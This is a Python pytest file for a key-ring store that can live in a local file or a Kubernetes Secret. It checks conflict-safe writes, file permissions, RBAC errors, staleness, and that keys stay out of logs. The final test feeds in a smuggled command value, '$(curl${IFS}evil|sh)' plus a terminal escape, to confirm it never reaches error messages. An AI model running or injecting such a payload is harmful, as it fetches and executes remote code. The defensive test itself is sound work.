"""Both stores of the key ring: whole writes, one winner of two writers, and errors that tell what to do."""

from __future__ import annotations

import asyncio
import base64
import os
from collections.abc import AsyncIterator, Mapping
from dataclasses import replace
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest

from freehold.api import names
from freehold.controllers.keyring.file import FileRing
from freehold.controllers.keyring.keeper import RingKeeper
from freehold.controllers.keyring.needs import KeyNeed, build_first_ring, need_of, open_ring, read_needs
from freehold.controllers.keyring.secret import SecretRing
from freehold.controllers.keyring.stored_form import (
    STALE_SECONDS,
    ChangedRing,
    MissingRing,
    RecordName,
    RingDocument,
    RingError,
    RingStore,
    UnreachableRing,
    UnreadableRing,
)
from freehold.engine import journal as journals
from freehold.engine.journal import Entry, Journal, RecordState
from freehold.engine.keys import fingerprint
from freehold.engine.ownership import Owner
from freehold.engine.resources import NodeKey
from freehold.kube import errors as kube
from freehold.kube.client import KubeClient
from freehold.kube.config import Connection
from freehold.kube.object_client import ObjectList
from freehold.kube.resources import CONFIG_MAPS, NAMESPACES, SECRETS, Json, Key, Resource
from freehold.providers.crds import build_crds
from freehold.providers.ibm import api_names as ibm_names
from freehold.providers.registry import SERVED_RESOURCES
from freehold.tags.context import PROVIDERS
from freehold.tags.key_needs import tag_needs
from freehold_apiserver.server import ApiServer
from freehold_apiserver.store import Store
from harness.virtual_time import run_ready_tasks

NOW = 1_800_000_000.0
NAMESPACE = "freehold-system"


@pytest.fixture
async def client() -> AsyncIterator[KubeClient]:
    store = Store.open(":memory:")
    api = ApiServer(store, build_crds())
    try:
        async with KubeClient(Connection(await api.start())) as talking:
            await talking.create(NAMESPACES, {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE}})
            yield talking
    finally:
        await api.stop()
        store.close()


@pytest.fixture(params=["file", "secret"])
def place(request: pytest.FixtureRequest, tmp_path: Path, client: KubeClient) -> RingStore:
    return FileRing(tmp_path / "state.keys") if request.param == "file" else SecretRing(client, NAMESPACE)


async def test_what_was_written_is_read_back(place: RingStore) -> None:
    assert (await place.read()).document is None
    made = RingDocument.create(NOW)
    await place.write(made, "")
    found = await place.read()
    assert found.document == made
    await place.write(made.add_new_key(NOW), found.version)
    again = (await place.read()).document
    assert again is not None
    assert again.keys.keys() > made.keys.keys()


async def test_the_second_writer_is_refused(place: RingStore) -> None:
    """Otherwise an unused key would overwrite one that objects already name."""
    first = RingDocument.create(NOW)
    await place.write(first, "")
    with pytest.raises(ChangedRing):
        await place.write(RingDocument.create(NOW), "")
    found = await place.read()
    await place.write(first.add_new_key(NOW), found.version)
    with pytest.raises(ChangedRing):
        await place.write(first.add_new_key(NOW), found.version)


async def test_two_operators_that_start_at_once_get_one_ring(place: RingStore) -> None:
    async def nothing() -> list[KeyNeed]:
        await run_ready_tasks(1)  # both have read before either writes
        return []

    rings = await asyncio.gather(*(open_ring(place, nothing, NOW) for _ in range(2)))
    assert rings[0].document == rings[1].document
    assert rings[0].document is not None


# --- the file ------------------------------------------------------------------------------------


async def test_only_the_user_may_read_the_file(tmp_path: Path) -> None:
    path = tmp_path / "state.keys"
    before = os.umask(0)
    try:
        await FileRing(path).write(RingDocument.create(NOW), "")
        await FileRing(path).write(RingDocument.create(NOW), (await FileRing(path).read()).version)
    finally:
        os.umask(before)
    assert path.stat().st_mode & 0o777 == 0o600
    assert [each.name for each in tmp_path.iterdir()] == ["state.keys"]


@pytest.mark.parametrize("mode", [0o640, 0o604, 0o620])
async def test_a_file_that_others_can_read_is_refused_and_the_message_has_the_command(
    tmp_path: Path, mode: int
) -> None:
    path = tmp_path / "state.keys"
    await FileRing(path).write(RingDocument.create(NOW), "")
    path.chmod(mode)
    with pytest.raises(UnreadableRing, match=f"chmod 600 {path}"):
        await FileRing(path).read()


async def test_a_file_of_another_user_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In a shared directory another user could put a ring there before ours is made."""
    await FileRing(tmp_path / "state.keys").write(RingDocument.create(NOW), "")
    monkeypatch.setattr(os, "geteuid", lambda: 4711)
    with pytest.raises(UnreadableRing, match="belongs to another user"):
        await FileRing(tmp_path / "state.keys").read()


async def test_a_place_that_is_not_a_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "state.keys").mkdir()
    with pytest.raises(UnreadableRing, match=r"state\.keys is not a file"):
        await FileRing(tmp_path / "state.keys").read()
    os.mkfifo(tmp_path / "fifo.keys", 0o600)
    with pytest.raises(UnreadableRing, match=r"fifo\.keys is not a file"):
        await FileRing(tmp_path / "fifo.keys").read()


async def test_a_directory_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    with pytest.raises(UnreadableRing, match=r"none/state\.keys cannot be written"):
        await FileRing(tmp_path / "none" / "state.keys").write(RingDocument.create(NOW), "")


# --- the Secret ----------------------------------------------------------------------------------


async def test_an_empty_secret_means_that_there_is_no_ring(client: KubeClient) -> None:
    """RBAC cannot limit 'create' to a name, so an installation creates it empty and grants get and update on it."""
    empty = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "freehold-keys", "namespace": NAMESPACE}}
    await client.create(SECRETS, empty)

    class NoCreate(KubeClient):
        async def create(self, resource: Resource, obj: Json) -> Json:
            raise kube.Forbidden("secrets is forbidden")

    async with NoCreate(client.connection) as limited:
        made = await open_ring(SecretRing(limited, NAMESPACE), nobody, NOW)
    assert made == await SecretRing(client, NAMESPACE).read()


async def nobody() -> list[KeyNeed]:
    return []


@pytest.mark.parametrize("data", [{"other": "eA=="}, {"ring.json": "//4="}, {"ring.json": "e30="}])
async def test_a_secret_without_a_readable_ring_is_never_overwritten(client: KubeClient, data: dict[str, str]) -> None:
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "freehold-keys", "namespace": NAMESPACE}}
    await client.create(SECRETS, {**secret, "data": data})
    with pytest.raises(UnreadableRing, match="Secret freehold-system/freehold-keys"):
        await open_ring(SecretRing(client, NAMESPACE), nobody, NOW)
    assert (await client.get(SECRETS, Key(NAMESPACE, "freehold-keys")))["data"] == data


async def test_a_missing_namespace_is_reported_with_the_command(client: KubeClient) -> None:
    with pytest.raises(UnreadableRing, match="kubectl create namespace elsewhere"):
        await open_ring(SecretRing(client, "elsewhere"), nobody, NOW)


async def test_a_secret_that_may_not_be_read_does_not_count_as_missing(client: KubeClient) -> None:
    """A 403 read as 'there is none' would make a second ring."""

    class Refused(KubeClient):
        async def get(self, resource: Resource, key: Key) -> Json:
            raise kube.Forbidden("secrets is forbidden")

    async with Refused(client.connection) as refused:
        with pytest.raises(UnreadableRing, match="'get' and 'update'"):
            await open_ring(SecretRing(refused, NAMESPACE), nobody, NOW)


# --- when a ring is made -------------------------------------------------------------------------

OWNER = Owner("uuid-1", ibm_names.POWERVS_CLUSTER_KIND, "team", "c1")


def stored(journal: str | None = None, status: Json | None = None) -> Json:
    annotations = {} if journal is None else {names.JOURNAL_ANNOTATION: journal}
    metadata = {"name": "c1", "namespace": "team", "uid": "uuid-1", "annotations": annotations}
    return {"kind": ibm_names.POWERVS_CLUSTER_KIND, "metadata": metadata, "status": status or {}}


KEYED = Entry(RecordState.OWNED, id="v", key="k2k2k2k2k2")
NEEDS: dict[str, tuple[Json, frozenset[str], bool]] = {
    "new": (stored(), frozenset(), False),
    "without a key": (stored(journals.dumps(Journal(OWNER))), frozenset(), False),
    "status without a key": (stored(status={"identity": {"uid": "uuid-1", "uuid": "uuid-1"}}), frozenset(), False),
    "only status": (
        stored(status={"identity": {"uid": "uuid-1", "uuid": "u", "key": "k3k3k3k3k3"}}),
        frozenset({"k3k3k3k3k3"}), False,
    ),
    "its own and an entry's": (
        stored(journals.dumps(Journal(OWNER, {NodeKey("vpc", "a"): KEYED}, key="k3k3k3k3k3"))),
        frozenset({"k3k3k3k3k3", "k2k2k2k2k2"}), False,
    ),
    "one entry without a key": (
        stored(
            journals.dumps(Journal(OWNER, {NodeKey("vpc", "a"): Entry(RecordState.OWNED, id="v")}, key="k3k3k3k3k3"))
        ),
        frozenset({"k3k3k3k3k3"}), False,
    ),
    "nobody can tell": (stored("{"), frozenset(), True),
    "a newer format": (stored('{"v":99}'), frozenset(), True),
}  # fmt: skip


@pytest.mark.parametrize(("raw", "digests", "damaged"), NEEDS.values(), ids=NEEDS.keys())
def test_what_an_object_needs(raw: Json, digests: frozenset[str], damaged: bool) -> None:
    found = need_of(raw)
    assert (found.digests, found.damaged) == (digests, damaged)


def test_the_records_of_an_object_are_listed_by_key() -> None:
    """A person who accepts the loss of a key accepts these records, and no later ones."""
    vpc, net = NodeKey("vpc", "a"), NodeKey("net", "b")
    entries = {
        vpc: KEYED,
        net: Entry(RecordState.VACANT, key=KEYED.key),
        NodeKey("net", "c"): replace(KEYED, key="k4k4k4k4k4"),
    }
    found = need_of(stored(journals.dumps(Journal(OWNER, entries, key="k3k3k3k3k3"))))
    assert found.records[KEYED.key] == {_named("vpc/a")}
    assert found.records["k4k4k4k4k4"] == {_named("net/c")}


def _named(node: str) -> RecordName:
    return RecordName(node, KEYED.id, fingerprint(OWNER, node, KEYED.id))


@pytest.mark.parametrize("case", ["only status", "its own and an entry's", "nobody can tell", "a newer format"])
def test_no_ring_is_made_if_an_object_may_name_a_key(case: str) -> None:
    """With a new ring everything of that object would look like a stranger's."""
    with pytest.raises(MissingRing, match="freehold keys add FILE") as refusal:
        build_first_ring("/state.keys", [need_of(NEEDS["new"][0]), need_of(NEEDS[case][0])], NOW)
    assert "/state.keys" in refusal.value.message
    assert "team/c1" in refusal.value.message


async def test_no_ring_is_made_while_the_objects_cannot_be_listed(tmp_path: Path) -> None:
    async def unavailable() -> list[KeyNeed]:
        raise kube.ServerUnavailable("no answer")

    with pytest.raises(UnreachableRing):
        await open_ring(FileRing(tmp_path / "state.keys"), unavailable, NOW)
    assert list(tmp_path.iterdir()) == []


REFUSED = pytest.mark.parametrize("refusal", [kube.Forbidden, kube.ServerUnavailable, kube.TooManyRequests])


class Listing(KubeClient):
    """``refused``: the kinds that cannot be listed, with the error."""

    refused: Mapping[str, kube.KubeError] = MappingProxyType({})

    async def list(self, resource: Resource, namespace: str = "", **how: Any) -> ObjectList:
        if resource.kind in self.refused:
            raise self.refused[resource.kind]
        return await super().list(resource, namespace, **how)


@REFUSED
@pytest.mark.parametrize("kind", [each.kind for each in (*SERVED_RESOURCES, *PROVIDERS.values(), CONFIG_MAPS)])
async def test_no_ring_is_made_while_one_kind_of_several_cannot_be_listed(
    client: KubeClient, tmp_path: Path, kind: str, refusal: type[kube.KubeError]
) -> None:
    """Its objects may name a key of the ring that is lost: a new one could prove nothing of theirs."""
    async with Listing(client.connection) as listing:

        async def needed() -> list[KeyNeed]:
            return [*await read_needs(listing, SERVED_RESOURCES), *await tag_needs(listing, NAMESPACE)]

        listing.refused = {kind: refusal("no answer")}
        with pytest.raises(UnreachableRing):
            await open_ring(FileRing(tmp_path / "state.keys"), needed, NOW)
        assert list(tmp_path.iterdir()) == []
        listing.refused = {kind: kube.ObjectNotFound("not installed")} if kind != CONFIG_MAPS.kind else {}
        assert (await open_ring(FileRing(tmp_path / "state.keys"), needed, NOW)).document is not None


# --- the keeper ----------------------------------------------------------------------------------


class Told:
    def __init__(self) -> None:
        self.times = 0

    def __call__(self) -> None:
        self.times += 1


async def test_a_changed_ring_is_announced_and_an_equal_one_is_not(tmp_path: Path) -> None:
    place = FileRing(tmp_path / "state.keys")
    keeper, told = RingKeeper(place, nobody, lambda: NOW, 1.0), Told()
    keeper.on_change = told
    assert keeper.problem
    await keeper.refresh()
    await keeper.refresh()
    assert (keeper.problem, told.times) == ("", 1)
    found = await place.read()
    assert found.document is not None
    await place.write(found.document.add_new_key(NOW), found.version)
    await keeper.refresh()
    assert told.times == 2
    assert len(keeper.ring.keys) == 2


async def test_an_unreadable_ring_stops_everything_until_it_is_back(tmp_path: Path) -> None:
    """Records that are made under keys which cannot be read any more could never be proved."""
    path = tmp_path / "state.keys"
    keeper = RingKeeper(FileRing(path), nobody, lambda: NOW, 1.0)
    await keeper.refresh()
    ring, text = keeper.ring, path.read_text()
    path.write_text(text[:-40])
    await keeper.refresh()
    assert str(path) in keeper.problem
    with pytest.raises(RingError, match="not JSON"):
        _ = keeper.ring
    path.write_text(text)
    await keeper.refresh()
    assert (keeper.problem, keeper.ring) == ("", ring)


class Broken(KubeClient):
    dark = False

    async def get(self, resource: Resource, key: Key) -> Json:
        if self.dark:
            raise kube.ServerUnavailable("no answer")
        return await super().get(resource, key)


async def test_a_short_outage_of_the_server_keeps_the_ring(client: KubeClient) -> None:
    async with Broken(client.connection) as broken:
        keeper = RingKeeper(SecretRing(broken, NAMESPACE), nobody, lambda: NOW, 1.0)
        broken.dark = True
        await keeper.refresh()
        assert "cannot be reached" in keeper.problem
        broken.dark = False
        await keeper.refresh()
        broken.dark = True
        await keeper.refresh()
        assert keeper.problem == ""


async def test_nothing_is_served_with_a_ring_that_could_not_be_read_for_long(client: KubeClient) -> None:
    """Another key may be the writing one by now, and this one removed: new records under it could not be proved."""

    now = NOW
    async with Broken(client.connection) as broken:
        keeper = RingKeeper(SecretRing(broken, NAMESPACE), nobody, lambda: NOW, 1.0, monotonic=lambda: now)
        await keeper.refresh()
        broken.dark = True
        now += STALE_SECONDS
        await keeper.refresh()
        assert keeper.problem == ""
        now += 1.0
        with pytest.raises(RingError, match="too old"):
            _ = keeper.ring
        await keeper.refresh()
        assert "cannot be reached" in keeper.problem
        broken.dark = False
        await keeper.refresh()
        assert keeper.problem == ""


async def test_an_object_that_misses_a_key_makes_the_next_read_of_the_ring_come_sooner(tmp_path: Path) -> None:
    """A person who has just added a key waits seconds, not the minute between two reads of a Secret."""
    place, seen = FileRing(tmp_path / "state.keys"), asyncio.Event()
    keeper = RingKeeper(place, nobody, lambda: NOW, poll=3600.0, soonest=0.01)
    await keeper.refresh()
    keeper.on_change = seen.set
    running = asyncio.create_task(keeper.run())
    found = await place.read()
    assert found.document is not None
    await place.write(found.document.add_new_key(NOW), found.version)
    keeper.report_missing_key()
    try:
        async with asyncio.timeout(10.0):
            await seen.wait()
    finally:
        running.cancel()


async def test_no_key_gets_into_the_log(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("DEBUG")
    path = tmp_path / "state.keys"
    keeper = RingKeeper(FileRing(path), nobody, lambda: NOW, 1.0)
    await keeper.refresh()
    key = base64.b64encode(next(iter(keeper.ring.keys.values()))).decode()
    path.write_text(path.read_text().replace('"created"', '"creatd"'))
    await keeper.refresh()
    path.write_text(path.read_text()[:60])
    await keeper.refresh()
    said: list[Any] = [record.getMessage() for record in caplog.records]
    assert len(said) >= 2
    assert key[:12] not in str(said)


def test_a_text_that_is_no_digest_stands_in_no_command() -> None:
    need = KeyNeed(Key("a", "b"), "uuid", frozenset({"$(curl${IFS}evil|sh)\x1b[2J"}))
    with pytest.raises(MissingRing) as refused:
        build_first_ring("here", [need], NOW)
    assert "freehold keys accept" not in str(refused.value)
    assert "\x1b" not in str(refused.value)
